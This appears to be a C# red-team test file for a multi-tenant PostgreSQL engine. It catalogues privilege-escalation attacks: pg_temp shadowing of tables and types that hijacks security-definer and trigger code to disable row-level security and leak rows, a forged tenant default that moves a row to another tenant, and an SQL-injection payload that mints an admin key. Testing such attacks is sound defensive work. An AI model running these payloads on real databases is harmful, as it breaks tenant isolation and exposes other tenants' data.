using static Tenants.Engine.Tests.RedTeam.AttackStep;

namespace Tenants.Engine.Tests.RedTeam.Attacks;

/// <summary>Code that runs as an owner, and finds what the tenant put in its temporary schema in place of what it means.</summary>
internal static class OwnersCodeAttacks
{
    private const string Lift = """
        if (select relrowsecurity from pg_catalog.pg_class where oid = 'public.note'::pg_catalog.regclass) then
            begin
                execute 'alter table public.note disable row level security';
                raise notice '%', (select pg_catalog.string_agg(title, ',') from public.note);
            exception when insufficient_privilege then null;
            end;
        end if;
        """;

    // A table of the name that the owner's code writes to.
    private const string Table = "create temp table journal (what pg_catalog.text); grant all on journal to public; create function pg_temp.spy() returns trigger language plpgsql as $f$ begin " + Lift
        + " return new; end $f$; create trigger spy before insert on journal for each row execute function pg_temp.spy(); ";

    // A type of the name of its variables.
    private const string Type = "create function pg_temp.spy(pg_catalog.text) returns boolean language plpgsql as $f$ begin " + Lift
        + " return true; end $f$; create domain pg_temp.text as pg_catalog.text check (pg_temp.spy(value)); ";

    private const string Delete = "delete from public.project where name = 'of acme'";

    private const string Update = "update public.project set id = 1001 where name = 'of acme'";

    private const string Body = "language plpgsql immutable as 'declare word text := ''x''; begin return true; end'; ";

    private const string Journal = "create table public.journal (what text); ";

    private const string Writes = "language plpgsql as 'begin insert into journal values (''x''); return coalesce(new, old); end'; ";

    private const string Pinned = "language plpgsql security definer set search_path = public, pg_temp as ";

    private const string Helper = "create function public.help() returns text language plpgsql as 'declare word text := ''x''; begin return word; end'; ";

    private static readonly Listing s_scopedAction = new(
        AttackTrust.Scoped, "a foreign key acts as the owner of the other table, and what is set off there looks names up as the caller says", "the functions' owner: alter function … set search_path = pg_catalog, pg_temp; a DBA: revoke temporary on database … from public");

    private static readonly Listing s_scopedOwner = new(
        AttackTrust.Scoped, "the code of an owner looks names up as the caller says, in a part of it", "the functions' owner: alter function … set search_path = pg_catalog, pg_temp, with those that it calls or sets off; a DBA: revoke temporary on database … from public");

    /// <summary>The attacks.</summary>
    public static IReadOnlyList<Attack> All { get; } =
    [
        Acts("key-sets-off-trigger", "has a foreign key set off a plain trigger that writes to a table", Journal + Child("on delete cascade") + "create function public.logs() returns trigger " + Writes + "create trigger logs before delete on public.sub for each row execute function public.logs()", Table + Delete),
        Acts("key-sets-off-statement-trigger", "does so with a trigger for the statement", Journal + Child("on delete cascade") + "create function public.logs() returns trigger " + Writes + "create trigger logs before delete on public.sub for each statement execute function public.logs()", Table + Delete),
        Acts("key-to-its-own-table", "does so on a table that refers to itself", Journal + "alter table public.project add up int references public.project (id) on delete cascade; create function public.logs() returns trigger " + Writes + "create trigger logs before delete on public.project for each row execute function public.logs(); insert into public.project (tenant, name, up) values ('acme', 'below', 1)", Table + Delete),
        Acts("key-sets-off-late-trigger", "does so with a trigger that fires after the row was written", Journal + Child("on delete cascade") + "create function public.logs() returns trigger " + Writes + "create trigger logs after delete on public.sub for each row execute function public.logs()", Table + Delete) with { MinMajor = 18 },
        Acts("key-sets-off-condition", "has a foreign key look at the condition of a trigger", Child("on delete cascade") + "create function public.fits() returns boolean " + Body + "create function public.nothing() returns trigger language plpgsql set search_path = pg_catalog, pg_temp as 'begin return null; end'; create trigger nothing after delete on public.sub for each row when (public.fits()) execute function public.nothing()", Type + Delete),
        Acts("key-sets-off-check", "has a foreign key set off a check", "create function public.fits(text) returns boolean " + Body + Child("on update cascade", "check (public.fits(note))"), Type + Update),
        Acts("key-sets-off-generated", "has a foreign key compute a column", "create function public.fits(text) returns boolean " + Body + Child("on update cascade", "generated always as (public.fits(project_id::text)::text) stored"), Type + Update),
        Acts("key-sets-off-index", "has a foreign key compute what an index holds", "create function public.fits(text) returns boolean " + Body + Child("on update cascade") + "create index on public.sub ((public.fits(project_id::text)))", Type + Update),
        Acts("key-sets-off-domains-check", "has a foreign key set off the check of a domain that the column's domain is made of", "create function public.fits(int) returns boolean " + Body + "create domain public.low as int check (public.fits(value)); create domain public.high as public.low; create table public.sub (project_id public.high references public.project (id) on update cascade); insert into public.sub values (1)", Type + Update),
        Acts("key-sets-off-domains-default", "has a foreign key set off the default of a domain", "create function public.other() returns int language plpgsql as 'declare word text := ''x''; begin return null; end'; create domain public.low as int default public.other(); create table public.sub (project_id public.low references public.project (id) on delete set default); insert into public.sub values (1)", Type + Delete),
        Acts("key-sets-off-partition-key", "has a foreign key look for the partition of a row", "create function public.fits(text) returns boolean " + Body + "create table public.sub (project_id int references public.project (id) on update cascade, note text) partition by list ((public.fits(note))); create table public.part partition of public.sub for values in (true); insert into public.sub values (1, 'x')", Type + Update),
        Acts("key-sets-off-cast", "has a foreign key cast what it compares", "create type public.grade as enum ('one'); create function public.number(public.grade) returns int language plpgsql immutable as 'declare word text := ''x''; begin return 1; end'; create cast (public.grade as int) with function public.number(public.grade) as implicit; create table public.sub (project_id public.grade references public.project (id) on delete cascade); insert into public.sub values ('one')", Type + Delete),
        Acts("key-sets-off-range", "has a foreign key measure ranges for an index", "create function public.far(int, int) returns float8 language plpgsql immutable as 'declare word text := ''x''; begin return 1; end'; create type public.span as range (subtype = int, subtype_diff = public.far); "
            + Child("on update cascade") + "alter table public.sub add span public.span; create index on public.sub using gist (span); insert into public.sub select 1, 'x', public.span(n, n + 1) from generate_series(1, 2000) n", Type + Update),
        Acts("key-sets-off-rule", "has a foreign key set off a rule", "create function public.fits(text) returns boolean " + Body + "create table public.log (it boolean); " + Child("on delete cascade") + "create rule log as on delete to public.sub do also insert into public.log values (public.fits(old.note))", Type + Delete),
        Acts("key-sets-off-helper", "has a foreign key set off a pinned trigger that calls a function which it called first", Helper + Child("on delete cascade") + "create function public.logs() returns trigger language plpgsql set search_path = public, pg_temp as 'begin perform help(); return old; end'; create trigger logs before delete on public.sub for each row execute function public.logs()", Type + "select public.help(); " + Delete),
        Owns("body-bound-early", "shadows a table of a function that an owner's function calls whose body was bound when it was made", Journal + "create function public.logs() returns int language plpgsql as 'begin insert into journal values (''x''); return 1; end'; create function public.see() returns int language sql security definer return public.logs()", Table + "select public.see()"),
        Owns("path-in-one-name", "shadows a table of an owner's function whose path is one quoted name", Journal + "create function public.see() returns void language plpgsql security definer set search_path = 'public, pg_temp' as 'begin insert into journal values (''x''); end'", Table + "select public.see()"),
        Owns("path-in-capitals", "shadows a table of an owner's function whose path names \"PG_TEMP\"", Journal + "create function public.see() returns void language plpgsql security definer set search_path = public, 'PG_TEMP' as 'begin insert into journal values (''x''); end'", Table + "select public.see()"),
        Owns("aggregate", "calls an owner's function that it has no right to call, through an aggregate", Journal + "create function public.add(int, int) returns int language plpgsql security definer as 'begin insert into journal values (''x''); return 1; end'; revoke execute on function public.add(int, int) from public; create aggregate public.total(int) (sfunc = public.add, stype = int, initcond = '0')", Table + "select public.total(1)"),
        Owns("helpers-path", "shadows a type of a function with a path of its own, which an owner's pinned function calls", Helper + "alter function public.help() set search_path = public; create function public.see() returns text " + Pinned + "'begin return help(); end'", Type + "select public.see()"),
        Owns("helper-compiled-before", "calls first what an owner's pinned function calls, so that it stays compiled with a type of its own", Helper + "create function public.see() returns text " + Pinned + "'begin return help(); end'", Type + "select public.help(); select public.see()"),
        Owns("view-compiled-before", "does so with a function that a view calls", Helper + "create view public.helps as select help() as it; create function public.see() returns text " + Pinned + "'begin return (select it from helps); end'", Type + "select public.help(); select public.see()"),
        Owns("trigger-compiled-before", "sets off first what an owner's pinned function sets off", "create function public.stamp() returns trigger language plpgsql as 'declare word text := ''x''; begin return new; end'; create trigger stamp before insert on public.outbox for each row execute function public.stamp(); create function public.see() returns void " + Pinned + "'begin insert into outbox values (3); end'", Type + "insert into public.outbox values (2); select public.see()"),
        Owns("policy-compiled-before", "does so with a function of a policy", "create function public.fits(text) returns boolean language plpgsql as 'declare word text := ''x''; begin return true; end'; create policy fits on public.contact as restrictive using (public.fits(email)); create function public.see() returns bigint " + Pinned + "'begin return (select count(*) from contact); end'", Type + "select count(*) from public.contact; select public.see()"),
        Owns("put-off-trigger", "puts off what an owner's pinned function sets off, and has it fire when that has returned", Journal + "create table public.late (id int); create function public.logs() returns trigger " + Writes + "create constraint trigger logs after insert on public.late deferrable for each row execute function public.logs(); create function public.see() returns void " + Pinned + "'begin insert into late values (1); end'", Table + "set constraints all deferred; select public.see(); set constraints all immediate") with { MinMajor = 18 },
        new("key-gives-row-away", AttackFamily.OwnersRights, "has a foreign key set a row's tenant to its default, which it forges")
        {
            IsLookedFor = true,
            Setup = "alter table public.step drop constraint step_project; alter table public.step add foreign key (tenant, project_id) references public.project (tenant, id) on delete set default; insert into public.step values (9, 'acme', 1)",
            Steps = [Enemy(Delete + " returning set_config('tenants.tenant', 'globex', true)")],
            Success = Breach.Seen("the row is the victim's", "select exists (select from public.step where id = 9 and tenant = 'globex')"),
            Listed = [new(AttackTrust.Scoped, "the tenant's default is a setting, and no policy looks at what a foreign key writes", "the table's owner: no SET DEFAULT of the tenant's column")],
        },
        new("key-as-the-owner", AttackFamily.OwnersRights, "makes a key where an owner's function runs its SQL")
        {
            Setup = "create function public.find(what text) returns setof text language plpgsql volatile security definer set search_path = pg_catalog, pg_temp as $f$ begin return query execute 'select title from public.note where title = ''' || what || ''''; end $f$",
            Steps = [Enemy("select public.find('x'' union all select ''key '' || id from tenants.create_key(session_user, null) --')")],
            Success = Breach.EnemyGets("key "),
            Refusals = ["42501"],
            Listed = [new(AttackTrust.Scoped, "the session is the admin's", "whoever connects: -Trust Sealed")],
            Controls = [new("that the session must be an admin's") { Sql = "do $c$ begin execute replace(pg_get_functiondef('tenants.create_key(name, interval)'::regprocedure), 'if not coalesce(', 'if false and coalesce('); end $c$" }],
        },
    ];

    private static string Child(string action, string more = "") =>
        $"create table public.sub (project_id int references public.project (id) {action}, note text {more}); insert into public.sub (project_id) values (1); ";

    private static Attack Acts(string id, string tries, string setup, string sql) => new(id, AttackFamily.OwnersRights, tries)
    {
        IsLookedFor = true,
        Setup = setup,
        Steps = [Enemy(sql)],
        Listed = [s_scopedAction],
    };

    private static Attack Owns(string id, string tries, string setup, string sql) => Acts(id, tries, setup, sql) with { Listed = [s_scopedOwner] };
}
